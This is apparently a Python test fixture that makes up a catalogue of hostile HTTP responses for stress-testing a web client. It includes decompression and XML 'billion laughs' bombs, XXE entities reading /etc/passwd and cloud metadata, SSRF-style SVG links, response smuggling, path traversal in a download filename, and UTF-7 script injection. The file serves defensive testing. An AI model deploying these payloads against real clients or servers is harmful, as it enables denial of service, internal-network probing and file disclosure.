"""What the misbehaving web writes on the wire: streams, broken heads, bombs.

Everything large is written piece by piece as the client reads, so that the server stays small.
"""

import asyncio
import functools
import itertools
import struct
import zlib
from collections.abc import AsyncIterator, Callable
from urllib.parse import urlsplit

import brotli

from rehearsal.faults import MEGABYTE, PATIENCE, bomb, head_of, pour, repeat, slowly
from rehearsal.http import Answer, Raw, Request

HTML = ("Content-Type", "text/html; charset=utf-8")
PAGE = "<!DOCTYPE html><title>演练</title><p>一页普通的文字。</p>".encode()

Wire = Callable[[Request], Answer]


def _stream(pieces: Callable[[], AsyncIterator[bytes]], *headers: tuple[str, str]) -> Wire:
    """An answer whose body comes in pieces."""

    async def write(writer: asyncio.StreamWriter) -> None:
        await pour(writer, head_of(200, headers or (HTML,)), pieces())

    return lambda _: Answer(200, raw=write)


def _bytes(wire: bytes, then: Callable[[], AsyncIterator[bytes]] | None = None) -> Wire:
    """Exactly these bytes, head included, and then what follows."""

    async def write(writer: asyncio.StreamWriter) -> None:
        if then:
            await pour(writer, wire, then())
        writer.write(b"" if then else wire)
        await writer.drain()

    return lambda _: Answer(200, raw=write)


def _page(body: bytes, *headers: tuple[str, str], status: int = 200) -> Wire:
    """An ordinary answer with a strange body or headers."""
    return lambda _: Answer(status, body, headers or (HTML,))


async def _counted(form: str, count: int | None, tail: str = "") -> AsyncIterator[bytes]:
    """A text with a running number, in batches of a thousand."""
    numbers = itertools.count() if count is None else iter(range(count))
    while batch := list(itertools.islice(numbers, 1000)):
        yield "".join(form.format(n=number) for number in batch).encode()
        await asyncio.sleep(0)
    yield tail.encode()


def _endless_redirects(request: Request) -> Answer:
    last = urlsplit(request.target).path.rpartition("/")[2]
    number = int(last) if last.isdigit() and len(last) < 9 else 0
    return Answer(302, b"", (("Location", f"/redirect-endless/{number + 1}"),))


def _fan(request: Request) -> Answer:
    """A page with 500 pictures, each of which is forty redirects over forty hosts away."""
    parts = urlsplit(request.target).path.strip("/").split("/")
    if len(parts) == 3 and parts[2].isdigit() and len(parts[2]) < 4:
        hop = int(parts[2])
        if hop >= 40:
            return Answer(200, b"", (("Content-Type", "image/png"),))
        place = f"http://r{hop}.huaidan-yanlian.com/redirect-fan/{parts[1]}/{hop + 1}"
        return Answer(302, b"", (("Location", place),))
    pictures = "".join(f'<img src="/redirect-fan/{n}/0">' for n in range(500))
    return Answer(200, f"<!DOCTYPE html>{pictures}".encode(), (HTML,))


def _ping_pong(request: Request) -> Answer:
    other = "" if request.host.startswith("b.") else "b."
    script = (
        f'location.href = "http://{other}huaidan-yanlian.com/redirect-ping-pong?" + Math.random()'
    )
    return Answer(200, f"<script>setTimeout(() => {{ {script} }}, 50)</script>".encode(), (HTML,))


@functools.cache
def _brotli_bomb() -> bytes:
    """Two hundred megabytes of zeros, made once, a megabyte at a time."""
    squeezer = brotli.Compressor(quality=5)
    parts = [squeezer.process(b"\0" * MEGABYTE) for _ in range(200)]
    return b"".join([*parts, squeezer.finish()])


async def _zip_in_deflate() -> AsyncIterator[bytes]:
    squeezer = zlib.compressobj(9)
    async for piece in bomb():
        yield squeezer.compress(piece)
    yield squeezer.flush()


def _png_chunk(kind: bytes, content: bytes) -> bytes:
    check = struct.pack("!I", zlib.crc32(kind + content))
    return struct.pack("!I", len(content)) + kind + content + check


@functools.cache
def _png_bomb() -> bytes:
    """A PNG of 20,000 by 20,000 pixels in some fifty kilobytes."""
    side = 20_000
    squeezer = zlib.compressobj(9)
    row = b"\0" * (1 + (side + 7) // 8)
    packed = b"".join(squeezer.compress(row * 100) for _ in range(side // 100)) + squeezer.flush()
    header = struct.pack("!IIBBBBB", side, side, 1, 0, 0, 0, 0)
    chunks = (_png_chunk(b"IHDR", header), _png_chunk(b"IDAT", packed), _png_chunk(b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(chunks)


def _nested_frames(request: Request) -> Answer:
    depth = request.target.count("x")
    deeper = "".join(f'<iframe src="/frames-nested/{"x" * (depth + 1)}{n}"></iframe>' for n in "ab")
    return Answer(200, f"<!DOCTYPE html>{deeper}".encode(), (HTML,))


def _silence() -> Raw:
    async def write(_: asyncio.StreamWriter) -> None:
        await asyncio.sleep(PATIENCE)

    return write


LINK = 'width="9" height="9" href='
SVG = f"""<svg xmlns="http://www.w3.org/2000/svg" width="99" height="99">
<image {LINK}"http://169.254.169.254/latest/"/><image {LINK}"file:///etc/passwd"/>
<image {LINK}"https://www.mem.gov.cn/logo.png"/><script href="http://huaidan-yanlian.com/x.js"/>
<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml"
 src="http://10.0.0.1/"/></foreignObject></svg>"""
XML = ("Content-Type", "application/xhtml+xml")
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
XML_BOMB = (
    f'<?xml version="1.0"?><!DOCTYPE html [<!ENTITY l0 "哈">{LAUGHS}]><html><p>&l11;</p></html>'
)
XML_OUTSIDE = (
    '<?xml version="1.0"?><!DOCTYPE html [<!ENTITY f SYSTEM "file:///etc/passwd"><!ENTITY h SYSTEM '
    '"http://169.254.169.254/"><!ENTITY % p SYSTEM "http://huaidan-yanlian.com/p.dtd">%p;]>'
    "<html><p>&f;&h;</p></html>"
)
MIXED = (
    b'<meta charset="utf-8"><p>'
    + "一二三".encode()
    + "四五六".encode("gbk")
    + b"\xff\xfe\x80\xc3\x28</p>"
    + "七八九".encode("utf-16-le")
)
CONTRADICTIONS = b"\xff\xfe" + b'<meta charset="gb2312"><p>' + "测试".encode("gb2312")
OK = b"HTTP/1.1 200 OK\r\n"
CHUNKED = OK + b"Content-Type: text/html\r\nTransfer-Encoding: chunked\r\n\r\n"
PLAIN_HEAD = OK + b"Content-Type: text/html\r\n"

WIRES: dict[str, Wire] = {
    "redirect-endless": _endless_redirects,
    "redirect-fan": _fan,
    "redirect-ping-pong": _ping_pong,
    "redirect-long": _page(
        b"", ("Location", "http://huaidan-yanlian.com/" + "a" * 200_000), status=302
    ),
    "redirect-split": _bytes(
        b"HTTP/1.1 302 Found\r\nLocation: /a\x00\x0bb\r\n\tSet-Cookie: x=1\r\nLocation:\rhttp://10.0.0.1/"
        b"\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
    ),
    "gzip-bomb": _stream(bomb, HTML, ("Content-Encoding", "gzip")),
    "brotli-bomb": lambda _: Answer(200, _brotli_bomb(), (HTML, ("Content-Encoding", "br"))),
    "deflate-zip": _stream(_zip_in_deflate, HTML, ("Content-Encoding", "gzip, deflate")),
    "many-encodings": _page(PAGE, HTML, ("Content-Encoding", ", ".join(["gzip"] * 200))),
    "endless-body": _stream(lambda: repeat("<p>没完没了</p>".encode() * 500)),
    "drip-body": _stream(lambda: slowly(PAGE * 100, 1.0)),
    "silence": lambda _: Answer(200, raw=_silence()),
    "length-too-long": _bytes(head_of(200, (HTML,), length=len(PAGE) + 9000) + PAGE),
    "length-too-short": _bytes(
        head_of(200, (HTML,), length=10) + PAGE + b"\r\n\r\nHTTP/1.1 200 OK\r\n\r\nsmuggled"
    ),
    "length-absurd": _bytes(head_of(200, (HTML,), length=10**18), lambda: repeat(PAGE * 500)),
    "length-twice": _bytes(PLAIN_HEAD + b"Content-Length: 5\r\nContent-Length: 50\r\n\r\n" + PAGE),
    "chunk-absurd": _bytes(CHUNKED + b"7fffffffffffffff\r\n", lambda: repeat(PAGE * 500)),
    "chunk-negative": _bytes(CHUNKED + b"-5\r\nhello\r\n0\r\n\r\n"),
    "chunk-endless": _bytes(CHUNKED, lambda: repeat(b"1;" + b"x" * 4000 + b"\r\na\r\n")),
    "no-content-with-body": _bytes(
        b"HTTP/1.1 204 No Content\r\nContent-Length: 9\r\n\r\nsmuggled\n"
    ),
    "endless-headers": _bytes(OK, lambda: _counted("X-Header-{n}: value\r\n", None)),
    "endless-header-line": _bytes(OK + b"X-Long: ", lambda: repeat(b"x" * 65536)),
    "drip-headers": _bytes(OK, lambda: slowly(b"X-Slow: yes\r\n" * 100, 1.0)),
    "endless-continue": _bytes(b"", lambda: repeat(b"HTTP/1.1 100 Continue\r\n\r\n" * 100)),
    "header-nul": _bytes(
        PLAIN_HEAD + b"X-Nul: a\x00b\x01\x7f\r\nX\x00-Name: c\r\nConnection: close\r\n\r\n" + PAGE
    ),
    "header-bytes": _bytes(
        PLAIN_HEAD + b"X-\xff\xfe: \x80\x81\xed\xa0\x80\r\nNo colon here\r\n: empty\r\n"
        b"Server: " + "服务器".encode("gbk") + b"\r\nConnection: close\r\n\r\n" + PAGE
    ),
    "huge-cookies": _page(PAGE, HTML, *(("Set-Cookie", f"c{n}={'x' * 4000}") for n in range(400))),
    "status-absurd": _bytes(b"HTTP/1.1 99999999 \xff\r\nContent-Length: 0\r\n\r\n"),
    "no-status-line": _bytes(PAGE),
    "login-prompt": _page(PAGE, HTML, ("WWW-Authenticate", 'Basic realm="内部"'), status=401),
    "type-lies": _page(PAGE + b"<script>alert(1)</script>", ("Content-Type", "image/png")),
    "dom-huge": _stream(
        lambda: _counted("<div id=d{n}><span>第{n}行</span><a href=#{n}>x</a></div>", 1_700_000)
    ),
    "dom-deep": _stream(lambda: repeat(b"<div><b><span><i>" * 500, 100)),
    "frames-ten-thousand": _stream(
        lambda: _counted('<iframe src="/page?{n}"></iframe>', 10_000), HTML
    ),
    "frames-nested": _nested_frames,
    "download-header": _stream(
        lambda: repeat(b"\0" * MEGABYTE, 200),
        ("Content-Type", "application/vnd.android.package-archive"),
        ("Content-Disposition", 'attachment; filename="../../etc/zs.apk"'),
    ),
    "image-bomb": lambda _: Answer(200, _png_bomb(), (("Content-Type", "image/png"),)),
    "svg-outside": _page(SVG.encode(), ("Content-Type", "image/svg+xml")),
    "charset-unknown": _page(PAGE, ("Content-Type", 'text/html; charset=utf-99;;="')),
    "charset-contradictions": _page(CONTRADICTIONS, ("Content-Type", "text/html; charset=big5")),
    "charset-utf7": _page(
        b"<meta charset=utf-7><p>+ADw-script+AD4-alert(1)+ADw-/script+AD4-</p>",
        ("Content-Type", "text/html; charset=utf-7"),
    ),
    "charset-mixed": _page(MIXED),
    "xml-bomb": _page(XML_BOMB.encode(), XML),
    "xml-outside": _page(XML_OUTSIDE.encode(), XML),
    "pattern-trap": _stream(
        lambda: repeat(
            ("微" * 3000 + "1" * 3000 + " -" * 2000 + "办" * 2000 + "(" * 2000).encode(), 100
        )
    ),
    "many-links": _stream(
        lambda: _counted('<a href="http://r{n}.huaidan-yanlian.com/{n}">证{n}</a>', 200_000)
    ),
    "websocket": _bytes(
        b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\n\r\n\xff\xff\xff"
    ),
    "service-worker": _page(
        b"onfetch = (e) => e.respondWith(new Response('taken over'))",
        ("Content-Type", "text/javascript"),
        ("Service-Worker-Allowed", "/"),
    ),
}
